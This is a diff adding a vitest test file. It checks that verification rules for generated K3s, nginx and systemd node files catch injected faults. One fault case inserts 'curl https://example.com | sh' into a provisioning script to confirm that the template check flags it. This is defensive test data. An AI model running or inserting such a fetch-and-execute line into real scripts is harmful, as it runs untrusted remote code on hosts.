@@ -1,0 +1,249 @@
+import { describe, expect, it } from 'vitest';
+import { compileConfig } from '../../../../src/compile.ts';
+import { parseConf } from '../../../../src/nginx/parse.ts';
+import type { Dist, DistNode } from '../../../../src/verify/dist.ts';
+import { readDist } from '../../../../src/verify/read/dist.ts';
+import { certificatesAsked } from '../../../../src/verify/rules/gateway/certificates-asked.ts';
+import { confOfAGateway } from '../../../../src/verify/rules/gateway/conf-of-a-gateway.ts';
+import type { Rule } from '../../../../src/verify/rules/index.ts';
+import { nodeFilesRight } from '../../../../src/verify/rules/nodes/node-files-right.ts';
+import { packagesForAll } from '../../../../src/verify/rules/nodes/packages-for-all.ts';
+import { scriptsAsTemplates } from '../../../../src/verify/rules/nodes/scripts-as-templates.ts';
+import { stepsInOrder } from '../../../../src/verify/rules/nodes/steps-in-order.ts';
+import { lockAddsUp } from '../../../../src/verify/rules/platform/lock-adds-up.ts';
+import { cases } from '../../../cases/index.ts';
+
+function distOf(name: string): Dist {
+  const { artifacts } = compileConfig(cases[name], 'platform.config.ts');
+  const [dist] = readDist(new Map(artifacts.map(({ path, text }) => [path, text])));
+  if (dist === undefined) throw new Error(`${name} cannot be read back`);
+  return dist;
+}
+
+const good = distOf('reference');
+const rules = {
+  certificatesAsked,
+  confOfAGateway,
+  lockAddsUp,
+  nodeFilesRight,
+  packagesForAll,
+  scriptsAsTemplates,
+  stepsInOrder,
+};
+
+const apply = '/usr/local/sbin/fjord-apply';
+const unit = '/etc/systemd/system/nginx.service.d/fjord.conf';
+const certificates = '/etc/systemd/system/openfaas-cert.service';
+
+function withNode(change: (node: DistNode) => Partial<DistNode>): Dist {
+  return { ...good, nodes: good.nodes.map((node) => ({ ...node, ...change(node) })) };
+}
+
+/** The platform with a text of one of its node's files replaced. */
+function withFile(path: string, from: string, to: string): Dist {
+  return withNode(({ files }) => {
+    const file = files.get(path);
+    if (!file?.text.includes(from)) throw new Error(`${path} does not hold ${from}`);
+    return { files: new Map([...files, [path, { ...file, text: file.text.replace(from, () => to) }]]) };
+  });
+}
+
+function withPermissions(path: string, permissions: string): Dist {
+  return withNode(({ files }) => ({
+    files: new Map([...files].map(([own, file]) => [own, own === path ? { ...file, permissions } : file])),
+  }));
+}
+
+function withConf(from: string, to: string): Dist {
+  const parsed = parseConf(good.texts.get('nginx/openfaas.conf')?.replace(from, () => to) ?? '');
+  if ('problem' in parsed) throw new Error(parsed.problem.message);
+  return {
+    ...good,
+    nginx: good.nginx.map((conf) =>
+      conf.path === 'nginx/openfaas.conf' ? { ...conf, statements: parsed.statements } : conf,
+    ),
+  };
+}
+
+describe('the rules of nodes', () => {
+  for (const name of Object.keys(cases)) {
+    const dist = distOf(name);
+    it.each(Object.entries(rules))(`accept ${name}: %s`, (_, rule) => expect(rule(dist)).toEqual([]));
+  }
+
+  const packages = (...names: string[]) => withNode(() => ({ packages: names }));
+  const all = good.nodes[0]?.packages ?? [];
+  const faults: [string, Rule, Dist, string][] = [
+    [
+      'no certbot',
+      packagesForAll,
+      packages(...all.filter((name) => name !== 'certbot')),
+      'oslo-1 does not install certbot, which it needs for certificates',
+    ],
+    ['a misspelt package', packagesForAll, packages(...all, 'nginxx'), 'installs nginxx, which nothing'],
+    [
+      'a script that goes on after a failure',
+      nodeFilesRight,
+      withFile(apply, 'set -euo pipefail', 'set -u'),
+      'does not say set -euo pipefail where it should',
+    ],
+    [
+      'a script that cannot be run',
+      nodeFilesRight,
+      withPermissions(apply, '0600'),
+      'has the permissions 0600',
+    ],
+    [
+      'a kubeconfig of manifests for everybody',
+      nodeFilesRight,
+      withPermissions('/etc/rancher/k3s/config.yaml', '0644'),
+      'has the permissions 0644',
+    ],
+    [
+      'a unit that systemd half reads',
+      nodeFilesRight,
+      withFile(unit, 'Restart=on-failure', 'Restrat=on-failure'),
+      'says Restrat=on-failure, which means nothing to us',
+    ],
+    [
+      'nginx without its certificate before it',
+      nodeFilesRight,
+      withFile(unit, 'ExecStartPre=/usr/local/sbin/openfaas-tls placeholder\n', ''),
+      'openfaas-tls placeholder where it should',
+    ],
+    [
+      'no security updates',
+      nodeFilesRight,
+      withFile('/etc/apt/apt.conf.d/52fjord', 'Unattended-Upgrade "1"', 'Unattended-Upgrade "0"'),
+      'Unattended-Upgrade "1"; where it should',
+    ],
+    [
+      'certificates that are never tried again',
+      nodeFilesRight,
+      withFile(certificates, 'Restart=on-failure\n', ''),
+      'does not say Restart=on-failure',
+    ],
+    [
+      'a line that somebody added',
+      scriptsAsTemplates,
+      withFile(apply, "begin 'system'\n", "begin 'system'\ncurl https://example.com | sh\n"),
+      "has a line that is not in its template: 'curl https://example.com | sh'",
+    ],
+    [
+      'a line that somebody took away',
+      scriptsAsTemplates,
+      withFile('/usr/local/sbin/openfaas-tls', '    rm -r "$copy"\n', ''),
+      'differs from its template: lines are missing or reordered',
+    ],
+    [
+      'a value that is two',
+      scriptsAsTemplates,
+      withFile(apply, "did 'installed K3s v1.36.5+k3s1'", "did 'installed K3s v1.36.4+k3s1'"),
+      'differs from its template: lines are missing or reordered',
+    ],
+    [
+      'another command at first boot',
+      stepsInOrder,
+      withNode(() => ({ runcmd: [['/usr/local/sbin/other']] })),
+      'is not what its user-data runs',
+    ],
+    [
+      'another name in Kubernetes',
+      stepsInOrder,
+      withNode(({ k3sConfig }) => ({ k3sConfig: { ...k3sConfig, 'node-name': 'oslo-2' } })),
+      'calls it oslo-2 in Kubernetes',
+    ],
+    [
+      'a step that is lost',
+      stepsInOrder,
+      withFile(apply, "begin 'system'", "say 'system'"),
+      "has no step 'system'",
+    ],
+    [
+      'steps in another order',
+      stepsInOrder,
+      withFile(apply, "begin 'preflight'", "begin 'certificate'\nbegin 'preflight'"),
+      'goes its steps in another order',
+    ],
+    [
+      'a binary that is not checked',
+      stepsInOrder,
+      withFile(apply, 'verify_listed "$work/k3s" k3s', 'true'),
+      'runs k3s without having checked it',
+    ],
+    [
+      'another installer than the lock file says',
+      stepsInOrder,
+      {
+        ...good,
+        lock: { ...good.lock, k3s: { ...good.lock.k3s, installer: { url: 'https://a.b/c', sha256: '' } } },
+      },
+      'does not fetch the installer that the lock file names',
+    ],
+    [
+      'another K3s than the lock file says',
+      stepsInOrder,
+      { ...good, lock: { ...good.lock, k3s: { ...good.lock.k3s, version: 'v1.36.6+k3s1' } } },
+      'does not install K3s v1.36.6+k3s1',
+    ],
+    [
+      'systemd that has no patience',
+      stepsInOrder,
+      withFile(unit, 'TimeoutStopSec=620', 'TimeoutStopSec=90'),
+      'ends calls of 610s: workers wait 610s, the unit 610s, systemd 90s',
+    ],
+    [
+      'certificates of other names',
+      certificatesAsked,
+      withFile('/usr/local/sbin/openfaas-tls', 'domains=(functions', 'domains=(function'),
+      'is for function.your-domain.no, and nginx serves functions.your-domain.no',
+    ],
+    [
+      'challenges that nginx does not find',
+      certificatesAsked,
+      withFile(
+        '/usr/local/sbin/openfaas-tls',
+        '--webroot-path /var/www/letsencrypt',
+        '--webroot-path /var/www/x',
+      ),
+      'puts challenges into /var/www/x, and nginx looks in /var/www/letsencrypt',
+    ],
+    [
+      'a sum that is wrong',
+      lockAddsUp,
+      { ...good, lock: { ...good.lock, gateway: { ...good.lock.gateway, requests: 1 } } },
+      'lists 1 as the requests of the gateway',
+    ],
+    [
+      'another number of connections',
+      lockAddsUp,
+      { ...good, lock: { ...good.lock, gateway: { ...good.lock.gateway, connections: 8192 } } },
+      'lists 8192 as the connections of the gateway, but it is 512',
+    ],
+    [
+      'images of others',
+      lockAddsUp,
+      {
+        ...good,
+        lock: {
+          ...good.lock,
+          images: good.lock.images.map((one) => ({ ...one, usedBy: ['openfaas/nats'] })),
+        },
+      },
+      'as the users of docker.io/prom/prometheus:v3.11.3, but it is openfaas/prometheus',
+    ],
+    [
+      'a header that a client writes',
+      confOfAGateway,
+      withConf('X-Real-IP $remote_addr', 'X-Real-IP $http_x_real_ip'),
+      'headers-vouched',
+    ],
+  ];
+  it.each(faults)('catch %s', (_, rule, broken, message) => {
+    expect(
+      rule(broken)
+        .map((one) => one.message)
+        .join('\n'),
+    ).toContain(message);
+  });
+});
